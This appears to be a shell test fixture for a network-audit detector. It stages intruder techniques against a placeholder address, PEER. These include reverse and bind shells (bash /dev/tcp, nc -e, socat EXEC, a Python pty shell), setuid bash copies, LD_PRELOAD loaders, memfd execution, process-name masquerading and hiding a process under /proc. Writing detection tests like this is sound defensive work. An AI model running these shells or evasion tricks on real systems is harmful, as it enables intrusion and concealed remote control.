# Harmless re-enactments of what intruders do. Each function is a scene; `netstat audit` should find something high or critical in each.
# The programs open what intruders' programs open, and do nothing with it. PEER is a public address, NEAR one of the private network.
as() { local user=$1; shift; setpriv --reuid "$user" --regid "$user" --clear-groups "$@"; }
put() { mkdir -p "$(dirname "$1")"; cp "$AGENT" "$1"; chmod 755 "$1"; }
py_connect='import socket,time,sys
s=socket.create_connection(("'$PEER'",443))
time.sleep(600)'

# --- interpreters judged by the code that they run
scene_python_stdin() { echo "$py_connect" | python3 - & wait; }
scene_python_exec_base64() { python3 -c "import base64;exec(base64.b64decode('$(echo "$py_connect" | base64 -w0)'))"; }
scene_python_dash_c_connect() { as 33 /usr/bin/python3 -c "$py_connect"; }
scene_python_hidden_script() { mkdir -p /home/dev/.cache/.x; echo "$py_connect" >/home/dev/.cache/.x/u.py; as 1000 /usr/bin/python3 /home/dev/.cache/.x/u.py; }
scene_python_tmp_script() { echo "$py_connect" >/tmp/up.py; as 1000 /usr/bin/python3 /tmp/up.py; }
scene_python_varlib_script() { mkdir -p /var/lib/.sys; echo "$py_connect" >/var/lib/.sys/u.py; python3 /var/lib/.sys/u.py; }
scene_perl_eval() { perl -MIO::Socket::INET -e "\$s=IO::Socket::INET->new(PeerAddr=>'$PEER:443');sleep 600"; }
scene_perl_stdin() { echo "use IO::Socket::INET;\$s=IO::Socket::INET->new(PeerAddr=>'$PEER:4444');sleep 600" | perl; }
scene_perl_fake_name() { perl -MIO::Socket::INET -e "\$0='/usr/sbin/httpd';\$s=IO::Socket::INET->new(PeerAddr=>'$PEER:6667');sleep 600"; }
scene_node_eval() { node -e "require('net').connect(443,'$PEER');setInterval(()=>{},1000)"; }
scene_tcl_stdin() { echo "set s [socket $PEER 443]; vwait forever" | tclsh; }
scene_mawk_loader() { cp /usr/bin/busybox /tmp/awk; bash -c "exec 3<>/dev/tcp/$PEER/443; /tmp/awk '{print}' <&3; true"; }
scene_bash_dev_tcp() { bash -c "exec 3<>/dev/tcp/$PEER/4444; while read -r line <&3; do eval \"\$line\" >&3 2>&1; done"; }
scene_ld_so_program() { put /dev/shm/x; /lib64/ld-linux-x86-64.so.2 /dev/shm/x connect $PEER 443 || /lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 /dev/shm/x connect $PEER 443; }
scene_java_jar_tmp() { mkdir -p /tmp/j; cat >/tmp/j/M.java <<J
public class M { public static void main(String[] a) throws Exception { new java.net.Socket("$PEER",443); Thread.sleep(600000); } }
J
    java /tmp/j/M.java; }
scene_busybox_applet_nc() { busybox nc $PEER 4444 -e /bin/sh; }

# --- shells over the network
scene_bash_reverse() { bash -c "bash -i >& /dev/tcp/$PEER/4444 0>&1"; }
scene_fifo_nc() { mkfifo /tmp/f; sh -c "cat /tmp/f | sh -i 2>&1 | nc $PEER 4444 >/tmp/f"; }
scene_ncat_listen_exec() { ncat -l 8888 -e /bin/sh; }
scene_ncat_listen_sh_exec() { ncat -lk 8888 --sh-exec "sh -i"; }
scene_socat_listen_exec() { socat TCP-LISTEN:8888,reuseaddr,fork EXEC:/bin/bash,pty,stderr; }
scene_socat_listen_system() { socat TCP-LISTEN:8888,fork SYSTEM:'sh -i'; }
scene_socat_udp_exec() { socat UDP-LISTEN:8888,fork EXEC:/bin/sh; }
scene_socat_connect_exec() { socat TCP:$PEER:4444 EXEC:'/bin/bash -li',pty,stderr,setsid; }
scene_openssl_fifo() { mkfifo /tmp/o; sh -c "sh -i </tmp/o 2>&1 | openssl s_client -quiet -connect $PEER:443 >/tmp/o"; }
scene_python_pty() { python3 -c "import socket,os,pty
s=socket.create_connection(('$PEER',4444))
[os.dup2(s.fileno(),f) for f in (0,1,2)]
pty.spawn('/bin/sh')"; }
scene_python_bind_shell() { python3 -c "import socket,subprocess
l=socket.socket();l.bind(('0.0.0.0',5555));l.listen()
while 1:
  c,_=l.accept();subprocess.call(['/bin/sh','-i'],stdin=c,stdout=c,stderr=c)"; }
scene_agent_pty_shell() { put /usr/local/bin/upd; cat >/tmp/.p.py <<P
import pty,os,socket,time
pid,fd=pty.fork()
if pid==0: os.execv('/bin/sh',['sh','-i'])
os.set_inheritable(fd,True)
os.execv('/usr/local/bin/upd',['upd','connect','$PEER','443'])
P
    exec python3 /tmp/.p.py; }
scene_inetd_shell() { busybox nc -ll -p 8888 -e /bin/sh; }
scene_tcpsvd_shell() { busybox nc -l -p 8889 -e /bin/sh; }

# --- lineage
scene_webshell_curl() { mkdir -p /var/www/html; cat >/var/www/x.py <<P
import subprocess,socket,time,os
l=socket.socket();l.bind(('0.0.0.0',8080));l.listen()
open('/proc/self/comm','w').write('apache2')
subprocess.Popen(['/bin/sh','-c','exec 3<>/dev/tcp/x; sleep 600'])
subprocess.call(['/bin/bash','-c','exec 3<>/dev/tcp/$PEER/443; sleep 600'])
P
    as 33 /usr/bin/python3 /var/www/x.py; }
scene_nginx_child_shell() { cp /usr/sbin/nginx /usr/sbin/nginx.x 2>/dev/null; cat >/tmp/n.sh <<P
bash -c 'exec 3<>/dev/tcp/$PEER/443; sleep 600' &
wait
P
    as 33 /usr/bin/perl -e '$0="nginx: worker process"; open(C,">/proc/self/comm");print C "nginx";close C; system("/bin/bash","/tmp/n.sh")'; }
scene_redis_child_shell() { as 33 /usr/bin/perl -e 'open(C,">/proc/self/comm");print C "redis-server";close C; system("/bin/bash","-c","exec 3<>/dev/tcp/'$PEER'/6667; sleep 600; true")'; }
scene_postgres_downloader() { as 33 /usr/bin/perl -e 'open(C,">/proc/self/comm");print C "postgres";close C; system("/usr/bin/ncat","'$PEER'","8443")'; }

# --- memory
scene_memfd_program() { python3 -c "import os
f=os.memfd_create('x');os.write(f,open('$AGENT','rb').read())
os.execve('/proc/self/fd/%d'%f,['[kworker/0:2]','connect','$PEER','443'],{})"; }
scene_rwx_unowned() { put /usr/local/bin/metricsd; AGENT_RWX=1 /usr/local/bin/metricsd connect $PEER 443; }
scene_injected_sshd_like() { cat >/tmp/i.c <<C
#include <sys/mman.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void in(void){ memset(mmap(0,65536,7,MAP_PRIVATE|MAP_ANONYMOUS,-1,0),0xc3,4096); }
C
    gcc -shared -fPIC -o /usr/lib/x86_64-linux-gnu/libsel.so.1 /tmp/i.c; rm /tmp/i.c; LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libsel.so.1 /usr/bin/ncat $PEER 443; }
scene_preload_tmp() { echo 'int x;' >/tmp/i.c; gcc -shared -fPIC -o /tmp/.l.so /tmp/i.c; LD_PRELOAD=/tmp/.l.so /usr/bin/ncat $PEER 443; }
scene_ld_audit() { echo 'unsigned la_version(unsigned v){return v;}' >/tmp/i.c; gcc -shared -fPIC -o /usr/lib/libaud.so /tmp/i.c; LD_AUDIT=/usr/lib/libaud.so /usr/bin/ncat $PEER 443; }
scene_pythonpath_hook() { mkdir -p /dev/shm/.m; echo 'import socket;s=socket.create_connection(("'$PEER'",443))' >/dev/shm/.m/sitecustomize.py; PYTHONPATH=/dev/shm/.m /usr/bin/python3 -c 'import time;time.sleep(600)'; }
scene_library_deleted() { echo 'int x;' >/usr/lib/i.c; gcc -shared -fPIC -o /usr/lib/libz9.so /usr/lib/i.c; LD_PRELOAD=/usr/lib/libz9.so /usr/bin/ncat $PEER 443 & sleep 0.2; rm /usr/lib/libz9.so; wait; }

# --- places and names
scene_usr_bin_unowned() { put /usr/bin/gcore2; /usr/bin/gcore2 connect $PEER 443; }
scene_usr_sbin_listener() { put /usr/sbin/updatd; /usr/sbin/updatd listen 0.0.0.0 31337; }
scene_lib_unowned() { put /usr/lib/libgc/xd; /usr/lib/libgc/xd connect $PEER 8443; }
scene_tmp_agent() { put /tmp/a; as 1000 /tmp/a connect $PEER 443; }
scene_var_tmp_miner() { put /var/tmp/xmrig; as 33 /var/tmp/xmrig connect $PEER 3333; }
scene_dev_shm_kworkerd() { put /dev/shm/.kworkerd; /dev/shm/.kworkerd connect $PEER 443; }
scene_home_hidden() { put /home/dev/.config/.d/agent; as 1000 /home/dev/.config/.d/agent connect $PEER 443; }
scene_home_cache_agent() { put /home/dev/.cache/gvfsd/up; as 1000 /home/dev/.cache/gvfsd/up connect $PEER 443; }
scene_home_local_share_deleted() { put /home/dev/.local/share/x/y; as 1000 /home/dev/.local/share/x/y connect $PEER 443 & sleep 0.2; rm /home/dev/.local/share/x/y; wait; }
scene_var_lib_hidden() { put /var/lib/.dbus/d; /var/lib/.dbus/d connect $PEER 443; }
scene_run_user() { put /run/user/1000/d; as 1000 /run/user/1000/d connect $PEER 443; }
scene_kworker_name() { put /usr/local/bin/kw; (exec -a '[kworker/u8:1]' /usr/local/bin/kw connect $PEER 443); }
scene_fake_sshd() { put /opt/.s/sshd; (exec -a 'sshd: root@pts/0' /opt/.s/sshd connect $PEER 443); }
scene_cyrillic_name() { put $'/usr/local/bin/\xd1\x95shd'; $'/usr/local/bin/\xd1\x95shd' connect $PEER 443; }
scene_trailing_blank() { put '/usr/sbin/cron '; '/usr/sbin/cron ' connect $PEER 443; }
scene_three_dots() { put /usr/share/.../x; /usr/share/.../x connect $PEER 443; }
scene_deleted_agent() { put /usr/local/sbin/agt; /usr/local/sbin/agt connect $PEER 443 & sleep 0.2; rm /usr/local/sbin/agt; wait; }
scene_setcap_agent() { put /home/dev/sniff; setcap cap_net_raw+ep /home/dev/sniff; AGENT_PACKET=1 as 1000 /home/dev/sniff connect $PEER 443; }
scene_etc_program() { put /etc/cron.d/.u; /etc/cron.d/.u connect $PEER 443; }

# --- hiding
scene_mount_over_proc() { put /usr/local/bin/h; /usr/local/bin/h connect $PEER 443 & sleep 0.1; mkdir -p /tmp/e; mount --bind /tmp/e /proc/$!; wait; }
scene_argv_disagrees() { put /opt/tool/bin/run; (exec -a /usr/sbin/cron AGENT_COMM=cron /opt/tool/bin/run connect $PEER 443) || (AGENT_COMM=cron exec -a /usr/sbin/cron /opt/tool/bin/run connect $PEER 443); }
scene_userns_fake_package() { put /home/dev/dpkg/svc; as 1000 unshare -Urm bash -c "mkdir -p /tmp/info; cp -r /var/lib/dpkg/status /tmp/; echo /usr/bin/svc >/tmp/info/svc.list; mount -t tmpfs x /mnt; exec /home/dev/dpkg/svc connect $PEER 443" & AGENT_RWX=1; wait; }
scene_sniffer_opt() { put /opt/.n/mon; AGENT_PACKET=1 /opt/.n/mon connect $PEER 443; }
scene_bpfdoor_like() { put /dev/shm/kdmtmpflush; (AGENT_PACKET=1 exec -a '/usr/sbin/console-kit-daemon --no-daemon' /dev/shm/kdmtmpflush idle) & sleep 0.2; rm /dev/shm/kdmtmpflush; wait; }

# --- tunnels
scene_sshd_other_config() { mkdir -p /tmp/.ssh /run/sshd; ssh-keygen -qt ed25519 -N '' -f /tmp/.ssh/k; printf 'Port 2222\nHostKey /tmp/.ssh/k\nPidFile none\n' >/tmp/.ssh/c; /usr/sbin/sshd -D -f /tmp/.ssh/c; }
scene_chisel_name() { put /usr/local/bin/chisel; (exec -a chisel /usr/local/bin/chisel connect $PEER 443); }
scene_chisel_args() { put /usr/local/bin/websvc; cat >/tmp/r.sh <<'S'
exec -a websvc /usr/local/bin/websvc connect $PEER 443 client https://203.0.113.9:443 R:socks
S
    bash /tmp/r.sh; }
scene_frpc() { put /opt/frp/frpc; /opt/frp/frpc connect $PEER 7000 -c /opt/frp/frpc.toml; }
scene_icmp_tunnel() { put /usr/local/bin/ptx; AGENT_RAW=1 /usr/local/bin/ptx idle; }
scene_ssh_reverse() { ssh -N -R 0.0.0.0:2222:localhost:22 -o StrictHostKeyChecking=no -o ConnectTimeout=600 u@$PEER; }
scene_sniffer_piped() { put /usr/local/bin/td; sh -c "AGENT_PACKET=1 /usr/local/bin/td idle | nc $PEER 443"; }
scene_tor_loopback() { put /opt/.t/tor; /opt/.t/tor listen 127.0.0.1 9050 & sleep 0.2; put /home/dev/.x/a; /home/dev/.x/a connect 127.0.0.1 9050; }

# --- rights, channels, loaders, names that lower nothing
home() { put "$1"; chown -R 1000:1000 /home/dev; }
scene_setuid_copy_of_bash() { cp /bin/bash /var/tmp/.sh; chmod 4755 /var/tmp/.sh; as 33 /usr/bin/perl -e 'system("/var/tmp/.sh","-p","-c","exec 3<>/dev/tcp/'$PEER'/443; sleep 600; true")'; }
scene_root_relay_below_www() { cp /bin/bash /opt/rs; chmod 4755 /opt/rs; as 33 /usr/bin/perl -e 'system("/opt/rs","-p","-c","exec /usr/bin/ncat '$PEER' 443")'; }
scene_dns_to_odd_server() { home /home/dev/bin/upd; as 1000 /home/dev/bin/upd udp $PEER 53; }
scene_dns_python_script() { mkdir -p /home/dev/w; printf 'import socket,time\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.connect(("%s",53))\ntime.sleep(600)\n' $PEER >/home/dev/w/q.py; chown -R 1000:1000 /home/dev; as 1000 /usr/bin/python3 /home/dev/w/q.py; }
scene_icmp_python() { printf 'import socket,time\ns=socket.socket(socket.AF_INET,socket.SOCK_RAW,1)\ntime.sleep(600)\n' >/home/dev/ping.py; chown -R 1000:1000 /home/dev; python3 /home/dev/ping.py; }
scene_loader_of_its_own() { mkdir -p /home/dev/lib; cp /lib64/ld-linux-x86-64.so.2 /home/dev/lib/ld.so; cat >/tmp/l.c <<C
#include <stdlib.h>
#include <unistd.h>
#include <arpa/inet.h>
int main(void){ struct sockaddr_in a={.sin_family=AF_INET,.sin_port=htons(443)}; inet_pton(AF_INET,"$PEER",&a.sin_addr); int s=socket(AF_INET,SOCK_STREAM,0); connect(s,(void*)&a,sizeof a); for(;;) pause(); }
C
    gcc -Wl,--dynamic-linker=/home/dev/lib/ld.so -o /opt/svc /tmp/l.c; /opt/svc; }
scene_userns_bound_over_package() { home /home/dev/svc; as 1000 unshare -Urm bash -c "mount --bind /home/dev/svc /usr/bin/ncat; exec /usr/bin/ncat connect $PEER 443"; }
scene_name_of_a_runner() { put /tmp/job/x; echo "/tmp/job/x connect $PEER 443; true" >/tmp/job/run.sh; cat >/tmp/job/w.pl <<'P'
open(C,">/proc/self/comm");print C "Runner.Worker";close C; system("/bin/bash","/tmp/job/run.sh");
P
    as 33 /usr/bin/perl /tmp/job/w.pl; }
scene_name_of_an_appimage() { put /tmp/.mount_Tool/tool; as 33 /tmp/.mount_Tool/tool connect $PEER 443; }
scene_name_of_a_go_build() { put /tmp/go-build12/b001/exe/t; as 33 /tmp/go-build12/b001/exe/t connect $PEER 443; }
scene_name_of_a_sensor() { home /home/dev/bin/suricata; AGENT_PACKET=1 /home/dev/bin/suricata idle; }
scene_name_of_a_notebook() { mkdir -p /home/dev/n; cat >/home/dev/n/jupyter-lab <<P
import pty,os,socket,time
s=socket.create_connection(('$PEER',443))
pid,fd=pty.fork()
if pid==0: os.execv('/bin/sh',['sh'])
time.sleep(600)
P
    chown -R 1000:1000 /home/dev; as 1000 /usr/bin/python3 /home/dev/n/jupyter-lab; }
